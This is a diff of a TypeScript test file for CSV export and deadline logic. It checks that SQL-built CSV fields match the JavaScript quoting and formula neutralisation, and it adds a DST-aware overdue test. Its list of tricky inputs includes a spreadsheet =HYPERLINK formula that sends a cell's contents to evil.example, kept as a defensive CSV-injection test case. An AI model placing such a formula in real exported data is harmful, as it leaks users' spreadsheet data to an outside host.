@@ -5,6 +5,7 @@ import { rawRows } from '../src/db/raw.js';
 import { seedPlan, servicenamndenVor, smallVor } from './fixtures/seed-plan.js';
 import { BOM, CSV_DELIMITERS, csvField, csvFieldSql, csvLine, csvLineSql, sqlField } from '../src/modules/exports/csv.js';
 import { columnNames, csvInSql, DATASET_NAMES, DATASETS, type Cell } from '../src/modules/exports/export-datasets.js';
+import { exportSqlDeadlines, isOverdue, OPEN_ACTION_STATUSES, pastDeadline, reportedLate } from '../src/modules/follow-ups/index.js';
 import { bandOrder, defaultMatrix, deriveRisk, exportSqlRisk, type IkpOverride, type RiskMatrix } from '../src/modules/risks/risk-matrix.js';
 
 // CSV lines built in the database (issue 17) must be byte for byte what the JS mapping and csvLine give.
@@ -18,7 +19,7 @@ const auth = { authorization: `Bearer ${token('admin')}` };
 const TRICKY = [
   '', ' ', 'plain', '=1+2', '+46 8 123', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', 'x\r\ny', 'a;b', 'a,b', 'say "hi"', '"',
   '""', "'quote", "=\"a;b\"", '-', '+', '=', '@', ' =not first', 'a\\b', 'å ä ö Å Ä Ö', 'emoji 🙂 ∑ 中文', 'tab\tinside',
-  'x;', ';x', ',x', 'x,', '\u00a0=nbsp', 'line\nbreak', 'cr\r', '\r', '\n', '\t', "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klicka\")",
+  'x;', ';x', ',x', 'x,', '\x01=x', 'a\x01', '\x01', '\u00a0=nbsp', 'line\nbreak', 'cr\r', '\r', '\n', '\t', "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klicka\")",
 ];
 
 t.test('csvFieldSql quotes and neutralises exactly as csvField', async (t) => {
@@ -92,6 +93,34 @@ t.test('exportSqlRisk agrees with deriveRisk and bandOrder on every cell, thresh
   t.ok(checked > 500, `${checked} cases agree`);
 });
 
+t.test('exportSqlDeadlines agrees with reportedLate, pastDeadline and isOverdue, around Stockholm midnights and DST', async (t) => {
+  const days = ['2026-03-28', '2026-03-29', '2026-03-30', '2026-04-30', '2026-05-01', '2026-08-31', '2026-10-24', '2026-10-25', '2026-10-26', '2026-12-31', '2027-01-01'];
+  // Instants on both sides of each day's Stockholm midnight (UTC+1 in winter, +2 in summer) and in the DST hours.
+  const instants = days.flatMap((d) =>
+    ['T21:59:59.999Z', 'T22:00:00.000Z', 'T22:30:00.000Z', 'T22:59:59.999Z', 'T23:00:00.000Z', 'T23:00:00.001Z', 'T00:30:00.000Z', 'T01:00:00.000Z', 'T02:30:00.000Z', 'T12:00:00.000Z'].map((h) => `${d}${h}`),
+  );
+  const statuses = ['NOT_STARTED', 'IN_PROGRESS', 'REPORTED', ...OPEN_ACTION_STATUSES, 'DONE', 'CANCELLED', 'CARRIED_OVER'];
+  const cases = instants.flatMap((at, i) => [{ at, due: days[i % days.length], today: days[(i * 3) % days.length], status: statuses[i % statuses.length] }, { at: null, due: days[(i + 1) % days.length], today: days[i % days.length], status: statuses[(i + 2) % statuses.length] }]);
+  const nullDue = cases.slice(0, 20).map((k) => ({ ...k, due: null }));
+  const all = [...cases, ...nullDue];
+  const rows = await rawRows<{ i: number; late: boolean; past: boolean; overdue: boolean }>(
+    db,
+    sql`select k.i, ${exportSqlDeadlines.reportedLate(sql`k.at`, sql`k.due`)} as late, ${exportSqlDeadlines.pastDeadline(sql`k.status`, sql`k.due`, sql`k.today`)} as past,
+      ${exportSqlDeadlines.isOverdue(sql`k.status`, sql`k.due`, sql`k.today`)} as overdue
+      from jsonb_to_recordset(${JSON.stringify(all.map((k, i) => ({ ...k, i })))}::jsonb) as k(i int, at timestamptz, due date, today date, status text) order by k.i`,
+  );
+  t.equal(rows.length, all.length);
+  for (const row of rows) {
+    const k = all[row.i];
+    const js = {
+      late: k.due === null ? false : reportedLate(k.at === null ? null : new Date(k.at), k.due),
+      past: k.due === null ? false : pastDeadline(k.status, k.due, k.today),
+      overdue: isOverdue({ status: k.status, dueDate: k.due }, k.today),
+    };
+    t.same({ late: row.late, past: row.past, overdue: row.overdue }, js, JSON.stringify(k));
+  }
+});
+
 t.test('every dataset built in SQL: its CSV is csvLine of its JSON rows, byte for byte, with either delimiter', async (t) => {
   // Tricky text in every kind of text column the datasets carry.
   const ids = await rawRows<{ id: string }>(db, sql`select id from risks order by id`);
@@ -117,5 +146,5 @@ t.test('every dataset built in SQL: its CSV is csvLine of its JSON rows, byte fo
       compared++;
     }
   }
-  t.ok(compared >= 2 * 14, 'the plain datasets, risks and the matrix cells are built in SQL');
+  t.ok(compared >= 2 * 16, 'every dataset but namnd-years is built in SQL');
 });
